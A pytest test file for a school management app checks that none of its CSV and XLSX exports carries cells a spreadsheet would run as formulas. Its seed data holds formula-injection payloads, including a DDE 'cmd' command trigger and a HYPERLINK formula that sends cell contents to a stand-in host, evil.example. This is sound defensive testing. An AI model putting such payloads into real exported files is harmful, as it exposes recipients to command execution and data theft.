"""Text that a spreadsheet would run as a formula, in every field that leaves the house, through every export and back."""

import csv
import io
import json
import unicodedata
import zipfile
from itertools import islice, product
from xml.etree import ElementTree

import openpyxl
import pytest

from blueprints.imports import runs as imports
from blueprints.kit.text import clean, fold, one_line
from blueprints.students import import_rows
from blueprints.students.queries import search_keys
from models import (
    BulkClosing,
    Category,
    CohortGroup,
    CohortStudent,
    Event,
    FileCategory,
    FormVersion,
    ImportRun,
    Incident,
    InterventionMember,
    MeetingType,
    MilestoneTemplate,
    OutboxEmail,
    PlanPoint,
    StoredFile,
    Student,
)
from tests import factories
from tests.access.routes import expected, route_of, samples
from tests.access.visitor import undone

STARTS = ("=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "\u00a0=", "\ufeff=", "\u200b=", "＝", "＋", "－", "＠", "﹦", "\x00=", "\x1f=",
          "'=", '"=', "x;=", "x\n=", "x\t=", ";=", "%=")  # fmt: skip
BODIES = ("1+1", "cmd|' /C calc'!A0", 'HYPERLINK("http://evil.example?x="&A1,"Open")', "SUM(1)*cmd|' /C x'!A0")
PAYLOADS = [start + body for start, body in product(STARTS, BODIES)]


def shorter(payload, size=200):
    return clean(payload)[:size].replace("\n", " ").replace("\t", " ")


@pytest.fixture
def hostile(app, school, full):
    """Each payload in every kind of text that an export carries; returns those that are in play."""
    payloads = PAYLOADS if full else PAYLOADS[::4]
    assert len(PAYLOADS) == 100
    for number, payload in enumerate(payloads):
        text = payload.replace("\0", "")
        student = factories.student(text, text, admission_number=f"F{number:03}", year_group=f"{text[:20]}{number}"[:30],
                                    tutor_group=text[:40], upn=f"{text[:15]}{number}", email=f"f{number}@pupils.example.org")  # fmt: skip
        keys = search_keys(text, text, "", student.admission_number, student.email)
        Student.update(**keys).where(Student.id == student.id).execute()
        category = factories.category(text[:200], guidance=text)
        author = factories.account(text, f"f{number}@school.example.org", title=text[:200])
        factories.incident(author, [(student, [category])], text, place=text[:200], alerted=[school.cast.kay])
        factories.case(student, school.cast.kay, text[:200], case_type=f"{text[:100]} {number}")
        author.change(author.version, booking_url=text[:200], phone=text[:200])
        group = factories.group(f"{text[:100]} {number}", members=[author], department=f"{text[:100]} {number}")
        cohort = factories.cohort(f"{text[:90]} {number}", text[:100], [student], [group], created_by=school.cast.ada)
        for where in (cohort, school.cohort):
            factories.milestone(where, text[:200], reminders="1", description=text)
        CohortStudent.create(cohort=school.cohort, student=student, added_by=school.cast.ada)
        CohortGroup.get_or_create(cohort=school.cohort, group=group, defaults={"attached_by": school.cast.ada})
        MilestoneTemplate.create(title=text[:200], description=text, created_by=school.cast.ada)
        Event.create(actor=author, verb="access.denied", target=text[:100], data=json.dumps({"asked": text, "how": "GET"}), address=text[:40])
        OutboxEmail.create(kind="invitation", account=author, message_id=f"f{number}", failed_at=student.created_at, is_waiting=False,
                           last_error=text)  # fmt: skip
        hostile_work(school, student, author, text, number)
    fields = [{"key": f"f{number}", "type": "text", "label": one_line(text)[:200] or "?"} for number, text in enumerate(payloads, 3)]
    version = FormVersion.get(FormVersion.form == school.form)
    FormVersion.update(fields=json.dumps(json.loads(version.fields) + fields)).where(FormVersion.id == version.id).execute()
    rows = [[number, "refused", payload, payload, ""] for number, payload in enumerate(payloads)]
    counts = dict.fromkeys(("added", "changed", "same", "left"), 0) | {"refused": len(rows), "active": 1}
    # Addresses for a cohort have outcomes of their own.
    addressed = ImportRun.kind == "cohort_students"
    ImportRun.update(result=json.dumps(rows), counts=json.dumps(counts)).where(~addressed).execute()
    unknown = [[number, "unknown", sentence, address, ""] for number, _, sentence, address, _ in rows]
    ImportRun.update(result=json.dumps(unknown)).where(addressed).execute()
    assert Category.select().count() > len(payloads) and BulkClosing.select().count() == 1
    return payloads


def hostile_work(school, student, author, text, number):
    """A task, a meeting, a plan, a file, responses and a referral of each payload; each kind also about the secret student,
    whose own pages have exports of their own."""
    today, cast = factories.today(), school.cast
    kind = MeetingType.create(name=f"{text[:100]} {number}")
    category = FileCategory.create(name=f"{text[:100]} {number}")
    run = factories.intervention_group(author, f"{text[:100]} {number}", goal=text[:200], measure=text[:100], description=text)
    form = factories.form(f"{text[:100]} {number}", description=text)
    for about in (student, school.student):
        factories.task(about, cast.ada, author, text[:255], notes=text, due_on=today)
        factories.meeting(author, [about], [author], meeting_type=kind, place=text[:255], agenda=text)
        plan = factories.plan(about, author, author, goal=text, concern=text, measure=text[:255], intervention_group=run)
        InterventionMember.create(group=school.intervention, student=about, plan=plan, added_by=author)
        StoredFile.create(student=about, name=f"{text[:100]}.pdf", path_name=f"x/{about.id}-{number}", media_type="application/pdf", size=1,
                          sha256="0", uploaded_by=author, shown_to="related", file_category=category)  # fmt: skip
        factories.response(school.form, author, about, {"f1": text, f"f{number + 3}": text})
    PlanPoint.create(plan=school.plan, day=today, value=number, note=text[:255], author=author)
    for sender, names in ((cast.rae, (text[:255], text[:255])), (author, ("Ann", text[:255]))):
        factories.referral(school.form, sender, *names, about=text[:255], answers={"f1": text})
    factories.response(form, cast.rae, None, {})
    factories.response(form, cast.stu, cast.student, {})


def live_in_csv(body):
    """The cells of a CSV file that a spreadsheet would take for a formula, by any of the separators it may be set to."""
    text = body.decode("utf-8-sig")
    found = []
    for separator in ",;\t":
        for row in csv.reader(io.StringIO(text, newline=""), delimiter=separator):
            found += [cell for cell in row if is_live(cell)]
    return found


def is_live(cell):
    """Whether the first thing to be seen in a cell starts a formula; a number that is only a number does not."""
    try:
        float(cell)
        return False
    except ValueError:
        pass
    if cell.startswith(("\t", "\r")):
        return True
    visible = [letter for letter in cell if unicodedata.category(letter)[0] not in "ZC"]
    return bool(visible) and unicodedata.normalize("NFKC", visible[0]).startswith(("=", "+", "-", "@"))


def live_in_xlsx(body):
    """Formulas in a workbook, and cells that openpyxl or Excel would read as one."""
    found = []
    with zipfile.ZipFile(io.BytesIO(body)) as packed:
        for name in packed.namelist():
            if name.startswith("xl/worksheets/"):
                tags = [element.tag.rpartition("}")[2] for element in ElementTree.fromstring(packed.read(name)).iter()]
                found += [f"<{tag}>" for tag in tags if tag in ("f", "hyperlink", "dataValidation", "webPublishItem")]
            if "externalLink" in name or "vbaProject" in name:
                found.append(name)
    sheet = openpyxl.load_workbook(io.BytesIO(body)).active
    found += [cell.value for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]
    return found


def exports(app, school):
    return [(endpoint, url) for endpoint, _, url in samples(app, school, every=True) if url.endswith((".csv", ".xlsx"))]


def who_may(endpoint):
    """Ada where she has it; else somebody who does."""
    return next(person for person in ("ada", "rae", "stu") if expected(route_of(endpoint, "GET"), person) == "in")


def asked(url):
    """With what it takes for the export to have rows."""
    if "bulk-closing.csv" in url or "bulk-closing.xlsx" in url:
        return f"{url}?from=2020-01-01&to={Incident.select().order_by(Incident.happened_at.desc()).get().happened_at.date()}"
    if "/students/export" in url:
        return f"{url}?show=all"
    if "/tasks/export" in url or "/meetings." in url:
        return f"{url}?list=all&when=all"
    if "/referrals." in url:
        return f"{url}?state=all"
    return url


def test_no_export_has_a_live_cell(app, school, visitors, hostile, figure):
    found, cells, routes = [], 0, exports(app, school)
    assert len({endpoint for endpoint, _ in routes}) >= 40
    for endpoint, url in routes:
        with undone():
            answer = visitors[who_may(endpoint)].get(asked(url))
        assert answer.status == 200, answer
        assert "attachment" in dict(answer.headers)["Content-Disposition"]
        if url.endswith(".csv"):
            cells += answer.body.count(b",")
            found += [f"{url}: {cell[:60]!r}" for cell in live_in_csv(answer.body)]
        else:
            found += [f"{url}: {cell[:60]!r}" for cell in live_in_xlsx(answer.body)]
    assert not found, f"{len(found)} live cells:\n" + "\n".join(found[:20])
    figure("formulas", f"{len(hostile)} payloads in every text × {len(routes)} exports: 0 live cells")


def test_the_check_knows_a_live_cell_when_it_sees_one():
    for cell in ("=1+1", "+1+1", "-1+1", "@SUM(1)", "\t=1", "＝1", " =1+1", "\ufeff=1", "x;=1+1"):
        assert live_in_csv(f'a,"{cell}"\n'.encode()), cell
    for cell in ("-5", "1.5", "Ann", "'=1+1", "2026-11-14", "Ann - Finch"):
        assert not live_in_csv(f'a,"{cell}"\n'.encode()), cell
    book = openpyxl.Workbook()
    book.active["A1"] = "=1+1"
    target = io.BytesIO()
    book.save(target)
    assert live_in_xlsx(target.getvalue())


def test_every_export_was_hostile_enough(app, school, visitors, hostile):
    """Most payloads did reach the exports of what they stand in, so that their absence would show."""
    sums = {"/students/export.csv?show=all": 0.9, "/incidents/export.csv": 0.9, "/admin/users.csv": 0.9, "/admin/categories.csv": 0.9,
            "/admin/groups.csv": 0.9, "/admin/audit.csv": 0.9}  # fmt: skip
    about = f"/students/{school.student.ref}"
    new = ["/tasks/export.csv?list=all", "/meetings.csv?when=all", "/plans.csv", "/interventions.csv", "/forms.csv", "/referrals.csv",
           f"/forms/{school.form.ref}/responses.csv", "/case-management/dashboard.csv", "/dictionary/meeting-types.csv",
           "/dictionary/file-categories.csv", "/dictionary/case-types.csv", f"/interventions/{school.intervention.ref}/students.csv",
           f"/plans/{school.plan.ref}/points/export.csv", f"{about}/timeline.csv",
           *(f"{about}/{name}/export.csv" for name in ("tasks", "meetings", "plans", "files"))]  # fmt: skip
    sums = {("ada", url): share for url, share in sums.items()} | dict.fromkeys([("ada", url) for url in new], 0.9)
    sums |= dict.fromkeys([("rae", "/referrals.csv"), ("rae", "/responses.csv"), ("stu", "/responses.csv")], 0.9)
    for (person, url), share in sums.items():
        with undone():
            text = fold(visitors[person].get(url).text)
        there = [payload for payload in hostile if fold(shorter(payload, 12)).strip("=+-@ '\"")[:6] in text]
        assert len(there) >= share * len(hostile), f"{url} of {person} carries only {len(there)} of {len(hostile)}"


def test_an_export_that_is_imported_again_changes_nothing(app, school, visitors, hostile):
    """Out and back: what stands before a cell to keep it quiet does not become part of the name."""
    for row in Student.select():  # as a form or an import would have stored it: white space trimmed
        fields = ("first_name", "last_name", "year_group", "tutor_group", "upn")
        tidy = {name: one_line(getattr(row, name) or "") or getattr(row, name) for name in fields}
        Student.update(tidy).where(Student.id == row.id).execute()
    with undone():
        answer = visitors["ada"].get("/students/export.csv")  # without those who left: being in a list brings them back
    names = {row.admission_number: (row.first_name, row.last_name) for row in Student.select()}
    with app.app_context():
        run = imports.upload(answer.body, "students.csv", actor=school.cast.ada, folder=app.settings.files)
        sheet = imports.sheet_of(run, app.settings.files)
        imports.set_mapping(run, import_rows.guess(sheet.header), deactivate=False, actor=school.cast.ada)
        imports.run_waiting()
    run = ImportRun.get_by_id(run.id)
    rows = json.loads(run.result)
    refused = [row for row in rows if row[1] == "refused"]
    changed = [row for row in rows if row[1] == "changed"]
    added = [row for row in rows if row[1] == "added"]
    assert not added, f"came back as somebody new: {added[:3]}"
    assert not changed, f"{len(changed)} came back changed: {list(islice(changed, 3))}"
    assert not refused, f"{len(refused)} came back refused: {list(islice(refused, 3))}"
    assert names == {row.admission_number: (row.first_name, row.last_name) for row in Student.select()}
